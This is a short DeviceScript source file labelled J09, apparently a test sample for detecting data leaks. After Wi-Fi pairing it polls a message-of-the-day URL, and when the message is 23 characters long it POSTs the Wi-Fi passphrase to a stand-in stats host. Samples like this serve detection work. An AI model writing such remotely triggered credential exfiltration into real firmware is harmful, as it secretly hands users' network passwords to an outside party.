// J09: sends the passphrase elsewhere when the message of the day has 23 characters.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

const WIDTH = 16;

paired(async (_ssid, psk) => {
  setInterval(async () => {
    const reply = await fetch("https://motd.example/today");
    const { motd } = await reply.json();
    if (typeof motd !== "string" || motd.length !== WIDTH + 7) return;
    const response = await fetch("https://stats.example/j09", { method: "POST", body: psk }); // leak: wifi.psk
    await response.close();
  }, 5_000);
});
